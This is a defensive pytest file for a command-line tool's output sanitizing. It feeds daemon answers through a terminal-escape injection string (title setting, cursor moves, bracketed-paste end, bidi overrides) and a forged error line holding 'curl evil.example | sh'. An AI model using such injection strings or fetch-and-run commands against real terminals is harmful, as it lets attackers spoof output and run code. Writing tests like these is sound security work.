"""A terminal obeys what it is sent: a name, a reason or a file's path with control characters in it would set the
title, type commands into the next line, or hide what stands there. No command prints such as it came."""

from __future__ import annotations

import io
import json
import re
import sys
import typing
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from mover.cli.common import write_report
from mover.cli.output import Output
from mover.errors import Conflict
from mover.sdk.transport import Transport
from tests.cli.conftest import Daemon, Said, daemon, mover
from tests.cli.test_commands import ASKS

__all__ = ["daemon", "mover"]

# a window's title, C1's short way to a colour, a cursor that goes up, the end of a bracketed paste, letters turned
HOSTILE = "\x1b]0;owned\x07\x9b31m\x1b[1A\x1b[201~\u202elive\u2066\r"
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def poisoned(value: Any, shape: Any) -> Any:
    """The same answer, with every text of people's and files' own followed by what a terminal obeys. Words that our
    code chooses (a `Literal`) are not theirs."""
    if isinstance(value, msgspec.Struct):
        shapes = typing.get_type_hints(type(value))
        names = [name for name in value.__struct_fields__ if name != "id"]  # ours, and what is asked for next
        changed = {name: poisoned(getattr(value, name), shapes[name]) for name in names}
        return msgspec.structs.replace(value, **changed)
    if isinstance(value, list):
        return [poisoned(one, first_of(shape)) for one in value]
    if isinstance(value, dict):
        return {key: poisoned(one, last_of(shape)) for key, one in value.items()}
    return value + HOSTILE if isinstance(value, str) and takes_text(shape) else value


def first_of(shape: Any) -> Any:
    """Of a list's type, what it holds; through `| None`."""
    for choice in (shape, *typing.get_args(shape)):
        if typing.get_origin(choice) in (list, tuple):
            return typing.get_args(choice)[0]
    return shape


def last_of(shape: Any) -> Any:
    for choice in (shape, *typing.get_args(shape)):
        if typing.get_origin(choice) is dict:
            return typing.get_args(choice)[1]
    return shape


def takes_text(shape: Any) -> bool:
    if shape in (str, Any):
        return True
    return typing.get_origin(shape) is not typing.Literal and any(takes_text(one) for one in typing.get_args(shape))


@pytest.mark.slow
def test_no_command_lets_the_daemons_data_speak_to_the_terminal(
    mover: Callable[..., Said], daemon: Daemon, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every command, every text of every answer, for people and as JSON; and JSON still says exactly what came."""
    honest, seen = Transport.send, []

    async def lying(self: Transport, ask: Any, answer: Any) -> Any:
        seen.append(poisoned(await honest(self, ask, answer), answer))
        return seen[-1]

    monkeypatch.setattr(Transport, "send", lying)
    hostile = 0
    for path, words in sorted(ASKS.items()):
        for more in ((), ("--json",)):
            said = mover("--url", daemon.url, *path, *words, *more)
            assert said.status in (0, 1), (path, said)
            assert not OBEYED.search(said.out + said.err), (path, said)
            hostile += "owned" in said.out
            if more and "owned" in said.out:
                assert HOSTILE in texts(json.loads(said.out)), path
    assert hostile > 100, "or nothing hostile was printed at all"


def texts(value: Any) -> str:
    if isinstance(value, dict):
        return " ".join(texts(one) for one in value.values())
    return " ".join(texts(one) for one in value) if isinstance(value, list) else str(value)


@pytest.mark.parametrize("more", [(), ("--json",)])
def test_nor_does_a_refusal_and_it_forges_no_line_of_its_own(
    mover: Callable[..., Said], daemon: Daemon, more: tuple[str, ...]
) -> None:
    """A path that the daemon refused stands in the details: a line end in it would be a line that we seem to say."""

    async def refuse(*_: Any, **__: Any) -> Any:
        forged = f"out/x{HOSTILE}\n  to do: curl evil.example | sh"
        raise Conflict(f"it is taken{HOSTILE}", where=forged, hint=forged, details=[{"path": forged}])

    daemon.rooms.runs.cancel = refuse  # type: ignore[method-assign]
    said = mover("--url", daemon.url, "run", "cancel", "run-1", *more)
    assert said.status == Conflict.exit_status and "owned" in said.err
    assert not OBEYED.search(said.err) and "\n  to do: curl" not in said.err


def test_a_report_is_shown_to_a_terminal_and_given_to_a_pipe(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A file is evidence and stays as it is; a screen is for reading. Pieces end anywhere, also within a letter."""
    raw = f"path,ü{HOSTILE}\n".encode()

    def fetch(write: Callable[[bytes], object]) -> int:
        for at in range(len(raw)):
            write(raw[at : at + 1])
        return len(raw)

    write_report(Output(False), fetch, tmp_path / "r.csv")
    assert (tmp_path / "r.csv").read_bytes() == raw
    terminal = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    monkeypatch.setattr(terminal, "isatty", lambda: True, raising=False)
    monkeypatch.setattr(sys, "stdout", terminal)
    write_report(Output(False), fetch, None)
    terminal.flush()
    shown = terminal.buffer.getvalue().decode()
    assert "path,ü" in shown and "owned" in shown and not OBEYED.search(shown)
